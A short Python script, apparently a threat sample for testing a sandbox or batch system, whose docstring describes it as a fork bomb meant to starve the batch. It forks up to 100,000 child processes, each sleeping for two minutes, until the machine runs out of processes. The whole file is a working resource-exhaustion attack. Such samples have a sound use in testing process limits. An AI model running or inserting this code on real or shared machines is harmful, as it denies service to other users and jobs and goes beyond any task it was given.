"""Forks processes until the machine runs out of them.

Threat: starve the batch (fork bomb).
"""

import os
import time

for _ in range(100_000):
    try:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
    except OSError as error:
        print("fork:", error)
        break
